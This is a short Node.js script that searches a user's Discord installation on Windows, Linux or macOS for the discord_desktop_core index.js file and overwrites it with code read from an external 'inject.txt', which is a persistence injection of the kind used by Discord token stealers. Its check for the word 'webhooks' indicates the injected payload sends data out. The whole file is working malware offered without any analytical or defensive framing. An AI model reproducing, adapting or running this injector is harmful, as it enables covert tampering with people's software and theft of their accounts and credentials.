const fs = require('fs');
const os = require('os');
const path = require('path');

const roots = process.platform === 'win32'
  ? [path.join(process.env.LOCALAPPDATA || '', 'Discord'), path.join(process.env.LOCALAPPDATA || '', 'DiscordCanary')]
  : [path.join(os.homedir(), '.config', 'discord'), path.join(os.homedir(), 'Library', 'Application Support', 'discord')];

const code = fs.readFileSync(path.join(__dirname, 'inject.txt'), 'utf8');

function find(dir, depth = 0) {
  if (depth > 5) return [];
  let out = [];
  let list = [];
  try { list = fs.readdirSync(dir, { withFileTypes: true }); } catch (e) { return out; }
  for (const e of list) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) out = out.concat(find(p, depth + 1));
    else if (e.name === 'index.js' && p.includes('discord_desktop_core')) out.push(p);
  }
  return out;
}

for (const r of roots) {
  for (const f of find(r)) {
    try {
      const cur = fs.readFileSync(f, 'utf8');
      if (!cur.includes('webhooks')) fs.writeFileSync(f, code + '\nmodule.exports = require("./core.asar");\n');
    } catch (e) {}
  }
}
